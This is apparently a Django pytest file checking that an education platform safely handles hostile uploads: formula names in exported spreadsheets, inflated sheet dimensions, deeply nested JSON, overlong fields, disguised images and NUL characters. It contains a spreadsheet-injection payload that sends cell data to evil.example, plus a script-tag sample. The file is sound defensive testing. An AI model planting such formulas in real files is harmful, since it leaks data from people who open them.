"""What an outside probe sent, where a user meets it (issue 11, items 1, 2 and 5): a spreadsheet claiming
millions of cells on the roster and question imports, a formula as a name in the initial-password file and
the cockpit's export, and JSON nested hundreds deep at the xAPI endpoint, the documents API, the Ninja API
and the question import. Each answers with a message and loses nothing; none is a 500."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from zhijiao.accounts.models import User
from zhijiao.accounts.tests.test_roster_import import STUDENT_HEAD
from zhijiao.records.tests.conftest import make_client, stmt

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _workbook(rows, *, dimension: str | None = None) -> bytes:
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    if dimension is None:
        return buf.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]+"/>', f'<dimension ref="{dimension}"/>'.encode(), data)
            dst.writestr(info.filename, data)
    return out.getvalue()


def _no_formulas(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    return [c.value for ws in load_workbook(io.BytesIO(content)).worksheets for row in ws.iter_rows() for c in row]


def test_a_roster_name_that_is_a_formula_stays_text_in_the_initial_password_file(client_as, users, demo):
    c = client_as(users["xiao_cio"])
    row = f"{demo.schools[0].code},一年级,1班,{EVIL.replace(',', '，')},G5101089999400007,女,,,,"
    csv = "\r\n".join([STUDENT_HEAD, row]).encode()
    preview = c.post("/accounts/roster/", {"files": SimpleUploadedFile("学生.csv", csv)})["Location"]
    result = c.post(preview)
    assert result.status_code == 302, c.get(preview).content.decode()[:2000]
    values = _no_formulas(c.get(result["Location"].replace("result/", "accounts.xlsx")).content)
    kid = User.objects.get(student_number="G5101089999400007")
    assert kid.name.startswith("=HYPERLINK(") and kid.name in values and kid.username in values


def test_a_roster_sheet_claiming_a_huge_size_is_read_for_its_rows(client_as, users, demo):
    school = demo.schools[0]
    head = STUDENT_HEAD.split(",")
    content = _workbook([head, [school.code, "一年级", "1班", "维度炸弹", "G5101089999400008", "女"]],
                        dimension="A1:XFD8000")
    c = client_as(users["xiao_admin"])
    resp = c.post("/accounts/roster/", {"files": SimpleUploadedFile("学生.xlsx", content)})
    assert resp.status_code == 302
    page = c.get(resp["Location"]).content.decode()
    assert "维度炸弹" in page and "新建" in page


def test_a_question_file_claiming_a_huge_size_imports_its_rows(client_as, users, demo):
    content = _workbook([["题型", "题干", "答案"], ["判断", "1 时 = 60 分", "对"]], dimension="A1:XFD1048576")
    resp = client_as(users["laoshi"]).post("/questions/import/", {"file": SimpleUploadedFile("题.xlsx", content)})
    assert resp.status_code in (200, 302)
    from zhijiao.questions.models import Question

    assert Question.objects.filter(stem="1 时 = 60 分").exists()


def test_the_cockpit_export_writes_a_formula_name_as_text():
    from zhijiao.cockpit.exports import Table, xlsx_response

    resp = xlsx_response(Table("teachers", "教师", ["教师", "得分"], [[EVIL, 88.5], ["=1+1", 3]]), "teachers")
    values = _no_formulas(resp.content)
    assert EVIL in values and "=1+1" in values and 88.5 in values


def _nested(depth: int) -> str:
    """JSON text nesting `depth` objects (built as text: the standard library cannot write 3,000 levels)."""
    return '{"k":' * depth + '"x"' + "}" * depth


def _with(data, deep: str) -> str:
    import json

    return json.dumps(data, ensure_ascii=False).replace('"__DEEP__"', deep)


@pytest.mark.parametrize("depth", [40, 900, 3000])
def test_xapi_statements_nested_too_deep_are_a_400_with_a_reason(depth):
    lrs = make_client()
    body = _with(stmt(context={"extensions": {"http://example.org/deep": "__DEEP__"}}), _nested(depth))
    from zhijiao.records.models import Statement

    before = Statement.objects.count()
    resp = lrs.post("/xapi/statements", body)
    assert resp.status_code == 400 and resp["Content-Type"].startswith("application/json")
    assert "嵌套" in resp.content.decode()
    assert Statement.objects.count() == before
    assert lrs.post("/xapi/statements", stmt()).status_code == 200  # an ordinary statement still goes in
    assert lrs.get("/xapi/statements", {"format": "canonical"}).status_code == 200


@pytest.mark.parametrize("depth", [40, 3000])
def test_a_state_document_nested_too_deep_does_not_break_the_lrs(depth):
    import json

    lrs = make_client()
    params = ("?activityId=http://example.org/a&stateId=s&agent="
              + json.dumps({"mbox": "mailto:tester@example.org"}))
    resp = lrs.post("/xapi/activities/state" + params, _nested(depth))
    assert resp.status_code == 400
    assert lrs.post("/xapi/activities/state" + params, {"ok": 1}).status_code == 204


@pytest.mark.parametrize("depth", [40, 3000])
def test_the_api_answers_a_too_deep_body_with_a_json_400(api_as, users, demo, depth):
    resp = api_as(users["laoshi"]).post("/api/v1/questions/import", _with({"questions": ["__DEEP__"]}, _nested(depth)),
                                         content_type="application/json")
    assert resp.status_code == 400 and resp.json()["detail"]


def test_a_question_json_upload_nested_too_deep_gets_a_message(client_as, users, demo):
    upload = SimpleUploadedFile("题.json", ("[" + _nested(3000) + "]").encode())
    resp = client_as(users["laoshi"]).post("/questions/import/", {"file": upload})
    assert resp.status_code in (200, 400, 422) and "嵌套超过" in resp.content.decode()


def test_a_roster_value_too_long_for_its_column_is_a_row_error_in_the_dry_run(client_as, users, demo):
    c = client_as(users["xiao_cio"])
    long_name = "欧阳" + "明" * 58  # 60 characters; the name column holds 50
    row = f"{demo.schools[0].code},一年级,1班,{long_name},G5101089999400009,女,,,,"
    preview = c.post("/accounts/roster/", {"files": SimpleUploadedFile("学生.csv", "\r\n".join([STUDENT_HEAD, row])
                                                                       .encode())})["Location"]
    page = c.get(preview).content.decode()
    assert "「姓名」最多 50 个字，这里有 60 个字" in page and 'data-testid="confirm"' not in page
    c.post(preview)
    assert not User.objects.filter(student_number="G5101089999400009").exists()


def test_a_question_source_too_long_is_refused_not_cut(api_as, users, demo):
    from zhijiao.questions.models import Question

    resp = api_as(users["laoshi"]).post("/api/v1/questions/import", {"questions": [
        {"type": "判断", "stem": "来源过长的题", "answer": "对", "source": "来" * 5000}]}, content_type="application/json")
    assert resp.status_code == 422 and "来源最多 120 个字" in resp.json()["errors"][0]["message"]
    assert not Question.objects.filter(stem="来源过长的题").exists()


@pytest.mark.parametrize("name,content", [
    ("clock.png", b"<html><script>alert(1)</script></html>"),
    ("clock.jpg", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),  # a PNG named as a JPEG
    ("clock.svg", b"GIF89a" + b"\x00" * 64),
])
def test_a_question_image_whose_content_is_not_what_its_name_says_is_refused(client_as, users, demo, name, content):
    resp = client_as(users["laoshi"]).post("/questions/new/", {
        "qtype": "truefalse", "stem": "图中钟面是 3 时", "answer": "对", "stem_image": SimpleUploadedFile(name, content)})
    assert resp.status_code == 422 and "不是它的扩展名所说的图片格式" in resp.content.decode()


def test_xapi_batches_are_capped_and_a_missing_actor_is_bad_input(api_as, users, demo):
    import json

    lrs = make_client()
    resp = lrs.post("/xapi/statements", json.dumps([stmt()] * 1001))
    assert resp.status_code == 413 and "一次最多提交 1000 条" in resp.content.decode()
    # a student with their own token: an actor that is null is a 400 naming the field, not a 403
    resp = api_as(users["xuesheng"]).post("/xapi/statements", json.dumps(stmt(actor=None)),
                                          content_type="application/json", HTTP_X_EXPERIENCE_API_VERSION="1.0.3")
    assert resp.status_code == 400 and "actor" in resp.content.decode()


def test_api_refusals_before_any_view_are_json_and_say_what_happened(client, settings, db):
    # no token and no session: 401, not a CSRF 403
    resp = client.post("/api/v1/questions/import", '{"questions": []}', content_type="application/json")
    assert resp.status_code == 401 and resp.json()["detail"]
    # a body over the upload limit: 413 in JSON, not Django's HTML 400
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    resp = client.post("/api/v1/auth/token", '{"username": "' + "x" * 2000 + '"}', content_type="application/json")
    assert resp.status_code == 413 and resp.json() == {"detail": "请求体过大"}


def test_a_nul_character_is_bad_input_not_a_database_error(api_as, users, demo, client_as):
    # PostgreSQL refuses NUL in text: schemathesis found GET /api/v1/catalog/books?edition=…%00… answering 500
    api = api_as(users["laoshi"])
    resp = api.get("/api/v1/catalog/books", {"edition": "rj\x00x"})
    assert resp.status_code == 400 and resp.json()["detail"]
    resp = api.post("/api/v1/questions/import", '{"questions": [{"type": "判断", "stem": "a\\u0000b", "answer": "对"}]}',
                    content_type="application/json")
    assert resp.status_code == 400
    assert client_as(users["laoshi"]).get("/search/", {"q": "古诗\x00"}).status_code == 400
